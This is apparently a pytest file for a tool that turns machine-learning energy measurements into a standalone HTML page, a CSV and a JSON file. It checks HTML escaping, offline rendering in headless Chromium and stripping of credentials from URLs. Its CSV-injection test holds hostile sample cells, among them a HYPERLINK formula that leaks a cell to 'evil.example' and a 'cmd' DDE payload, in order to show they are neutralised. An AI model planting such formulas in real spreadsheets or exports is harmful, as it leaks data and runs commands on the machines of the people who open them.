"""The report: a self-contained page, CSV and JSON from a real store, rendered by Chromium.

One SQLite store (``report_fixtures``) holds three machines' energy samples and runs of known
energy, a failed run, and runs whose names try to inject HTML; the report is written once per
module and every test reads it. Chromium (Debian's ``chromium``) renders the page where it is
installed; without it that test is skipped, unless ``TUBAI_REQUIRE_CHROMIUM=1`` makes it fail.
"""

from __future__ import annotations

import csv
import html
import json
import math
import os
import random
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import report_fixtures as rf
from run_fixtures import add_run

from exporters.errors import UsageError
from exporters.stores.sqlite import SQLiteStore
from scoring.charts import pareto_front
from scoring.report import COLUMNS, csv_cell, public_url, write_report
from scoring.runs import load_runs

_CHROMIUM_MISSING = "chromium not found: apt-get install chromium"


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    """(output dir, store, runs, expected joules per finished run)."""
    base = tmp_path_factory.mktemp("report")
    store = SQLiteStore(base / "tubai.db")
    expected = rf.build(store)
    runs = load_runs(store)
    write_report(store, base / "out", runs)
    yield base / "out", store, runs, expected
    store.close()


def _page(out: Path) -> str:
    return (out / "index.html").read_text(encoding="utf-8")


# --- the Pareto front on its own -------------------------------------------------------------


def _dominated(p: tuple[float, float], q: tuple[float, float]) -> bool:
    return q[0] <= p[0] and q[1] >= p[1] and q != p


def test_pareto_front_keeps_the_cheapest_for_each_accuracy() -> None:
    points = [(10.0, 0.70), (5.0, 0.60), (20.0, 0.80), (12.0, 0.65), (5.0, 0.55), (30.0, 0.80)]
    assert pareto_front(points) == [1, 0, 2]  # lowest energy first
    assert pareto_front([]) == []
    assert pareto_front([(1.0, 0.5), (1.0, 0.5)]) == [0, 1]  # equal points: neither dominates
    assert pareto_front([(math.inf, 0.9), (2.0, math.nan), (3.0, 0.1)]) == [2]


def test_pareto_front_matches_the_definition_on_random_points() -> None:
    rng = random.Random(7)
    for _ in range(200):
        n = rng.randint(1, 25)
        points = [(float(rng.randint(1, 8)), rng.randint(0, 8) / 8) for _ in range(n)]
        want = {i for i, p in enumerate(points) if not any(_dominated(p, q) for q in points)}
        got = pareto_front(points)
        assert set(got) == want and len(got) == len(want)
        assert [points[i][0] for i in got] == sorted(points[i][0] for i in got)


# --- files and their contents ----------------------------------------------------------------


def test_report_writes_page_csv_and_json(report) -> None:
    out, store, runs, _ = report
    assert {p.name for p in out.iterdir()} == {"index.html", "scores.csv", "scores.json"}
    doc = json.loads((out / "scores.json").read_text())
    assert [r["run_id"] for r in doc["runs"]] == [r.run_id for r in runs]
    assert set(doc["rankings"]) == {"lab-a", "lab-b", rf.XSS_HOST}
    assert doc["reference_host"] == sorted(doc["rankings"])[0]
    assert doc["rankings"]["lab-b"][0]["model"] == "mobilenetv3_small"
    assert doc["comparison"] and doc["repeats"]
    assert doc["store"] == store.url


def test_csv_has_one_row_per_run_with_exact_energy_per_inference(report) -> None:
    out, _, runs, expected = report
    with (out / "scores.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0]) == [c.header for c in COLUMNS]
    assert len(rows) == len(rf.RUNS) == len(runs)
    by_id = {row["run id"]: row for row in rows}
    for spec in rf.RUNS:
        row = by_id[spec.run_id]
        assert row["model"] == spec.model and row["host"] == spec.host
        if spec.fail:
            continue
        joules = expected[spec.run_id]
        assert float(row["joules"]) == pytest.approx(joules, rel=1e-9)
        assert float(row["uWh/inference"]) == pytest.approx(
            joules / 3.6e-3 / spec.inferences, rel=1e-9
        )
        assert float(row["composite"]) == pytest.approx(
            spec.top1**2 / (joules / 3.6 / spec.inferences), rel=1e-9
        )
        assert int(row["images"]) == spec.inferences
        assert float(row["coverage"]) == 1.0
    effnet = next(r for r in rf.RUNS if r.run_id == "a-effnet-1")
    net_j = expected[effnet.run_id] - effnet.idle_watts * effnet.steps * rf.STEP_NS / 1e9
    net_mwh = net_j / 3.6 / effnet.inferences
    assert float(by_id["a-effnet-1"]["net composite"]) == pytest.approx(effnet.top1**2 / net_mwh)
    assert by_id["a-resnet-1"]["net composite"] == ""
    assert by_id["c-digits-1"]["estimated"] == "true"
    assert by_id["a-resnet-1"]["estimated"] == "false"


def test_failed_run_has_its_status_and_no_score(report) -> None:
    out, _, _, _ = report
    with (out / "scores.csv").open(newline="", encoding="utf-8") as f:
        row = next(r for r in csv.DictReader(f) if r["run id"] == "a-fail-1")
    assert row["status"] == "failed"
    assert "out of memory" in row["flags"]
    for column in ("joules", "uWh/inference", "composite", "top-1", "images"):
        assert row[column] == ""
    page = _page(out)
    cells = re.search(r"<tr class=\"failed\">(.*?)</tr>", page).group(1)
    assert "a-fail-1" in cells and "failed" in cells
    assert html.escape(rf.FAIL_REASON) in cells


def test_page_needs_no_network(report) -> None:
    page = _page(report[0])
    assert "http://" not in page and "https://" not in page
    assert not re.search(r"""(src|href|url)\s*[=(]\s*["']?\s*//""", page, re.I)
    srcs = re.findall(r"<img\b[^>]*\bsrc=\"([^\"]*)\"", page)
    assert srcs and all(s.startswith("data:image/png;base64,") for s in srcs)
    assert len(re.findall(r"<img\b", page)) == len(srcs)
    assert "<link" not in page and not re.search(r"<script[^>]*\bsrc=", page)
    finished = sum(1 for r in rf.RUNS if not r.fail)
    assert len(srcs) == 1 + finished  # the Pareto chart and one power chart per finished run
    assert f'data-images-expected="{len(srcs)}"' in page


def test_user_strings_appear_only_escaped(report) -> None:
    page = _page(report[0])
    for hostile in rf.HOSTILE:
        assert hostile not in page
        assert html.escape(hostile, quote=True) in page
    assert page.count("<script") == 1  # the page's own
    assert len(re.findall(r"<img\b", page)) == len(re.findall(r'<img src="data:', page))
    assert not re.search(r"<[^>]*\bon\w+=", page)  # no element carries an event handler


def test_page_marks_flags_estimates_repeats_and_machines(report) -> None:
    page = _page(report[0])
    row = re.search(r"<tr class=\"flagged\">(<td>c-digits-1</td>.*?)</tr>", page).group(1)
    assert "ESTIMATED" in row and "FLAGGED" in row
    spread = re.search(r"<tr class=\"flagged\">(<td>lab-a</td><td>resnet50</td>.*?)</tr>", page)
    assert spread and "spread over 5%" in spread.group(1)
    assert "Across machines" in page and "(reference)" in page
    for host in ("lab-a", "lab-b", rf.XSS_HOST):
        assert f"<h3>{html.escape(host)}</h3>" in page
    assert "Showing the newest" not in page


def test_power_charts_are_capped_to_the_newest_runs(report, tmp_path) -> None:
    _, store, runs, _ = report
    page = write_report(store, tmp_path, runs, max_power_charts=2, title="capped <report>")
    text = page.read_text()
    finished = sum(1 for r in rf.RUNS if not r.fail)
    assert f"Showing the newest 2 of {finished} finished runs" in text
    assert len(re.findall(r"<img\b", text)) == 1 + 2
    assert "<title>capped &lt;report&gt;</title>" in text
    newest = max((r for r in runs if r.status == "finished"), key=lambda r: r.start_ns)
    assert html.escape(f"power over time of run {newest.run_id}") in text


def test_reference_host_and_empty_reports(report, tmp_path) -> None:
    _, store, runs, _ = report
    write_report(store, tmp_path / "ref", runs, reference_host="lab-b")
    doc = json.loads((tmp_path / "ref" / "scores.json").read_text())
    assert doc["reference_host"] == "lab-b"
    ratios = {c["model"]: c["ratios"] for c in doc["comparison"]}
    assert ratios["resnet50"]["lab-b"] == 1.0
    with pytest.raises(UsageError, match="no-such-host"):
        write_report(store, tmp_path / "bad", runs, reference_host="no-such-host")
    page = write_report(store, tmp_path / "empty", []).read_text()
    assert "No scored runs" in page and "<img" not in page
    with (tmp_path / "empty" / "scores.csv").open() as f:
        assert len(list(csv.reader(f))) == 1


FORMULA = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs (OWASP, CSV injection)


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path) -> None:
    link = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    with SQLiteStore(tmp_path / "s.db") as store:
        add_run(store, link, "+SUM(1,1)", "@lab", 100, 10, 36.0)
        add_run(store, "-2+3", "net", "lab", 200, 10, 36.0, fail="=cmd|' /C calc'!A0")
        write_report(store, tmp_path / "out", load_runs(store))
    with (tmp_path / "out" / "scores.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [(r["run id"], r["model"], r["host"]) for r in rows] == [
        ("'" + link, "'+SUM(1,1)", "'@lab"),
        ("'-2+3", "net", "lab"),
    ]
    for row in rows:
        for cell in row.values():
            if cell.startswith(FORMULA):
                float(cell)  # only a number may: it stays one
    assert rows[1]["flags"] == "failed: =cmd|' /C calc'!A0"  # begins with text: harmless
    assert [csv_cell(v) for v in (-1.5, -3, 0.25, True, None)] == ["-1.5", "-3", "0.25", "true", ""]
    assert [csv_cell(v) for v in ("-3", "\tx", "\r=1", "a=b")] == ["'-3", "'\tx", "'\r=1", "a=b"]


def test_store_url_never_shows_credentials() -> None:
    assert public_url("influxdb://user:secret@db:8086/tubai?token=x") == "influxdb://db:8086/tubai"
    assert public_url("sqlite:////abs/tubai.db") == "sqlite:////abs/tubai.db"
    assert public_url("sqlite:///data/tubai.db") == "sqlite:///data/tubai.db"


# --- Chromium renders it ---------------------------------------------------------------------


def _chromium() -> str:
    found = shutil.which("chromium") or shutil.which("chromium-browser")
    if found is None:
        if os.environ.get("TUBAI_REQUIRE_CHROMIUM") == "1":
            pytest.fail(f"{_CHROMIUM_MISSING} (TUBAI_REQUIRE_CHROMIUM=1 requires it)")
        pytest.skip(_CHROMIUM_MISSING)
    return found


def test_chromium_renders_every_table_and_image(report, tmp_path) -> None:
    binary = _chromium()
    out, _, _, _ = report
    page = _page(out)
    done = subprocess.run(
        [binary, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
         f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=5000",
         "--enable-logging=stderr", "--v=0", "--dump-dom", (out / "index.html").as_uri()],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    dom = done.stdout
    body = re.search(r"<body([^>]*)>", dom).group(1)
    attrs = dict(re.findall(r'data-([\w-]+)="([^"]*)"', body))
    expected = int(attrs["images-expected"])
    assert expected == len(re.findall(r"<img\b", page)) > 0
    assert attrs.get("images-ok") == attrs.get("images-total") == str(expected), attrs
    assert len(re.findall(r"<tr\b", dom)) == len(re.findall(r"<tr\b", page))
    assert len(re.findall(r"<table\b", dom)) == len(re.findall(r"<table\b", page)) >= 6
    assert '<img src="x"' not in dom and "<svg" not in dom
    console = [line for line in done.stderr.splitlines() if ":CONSOLE" in line]
    assert not console, console  # no errors, no policy violations, nothing logged
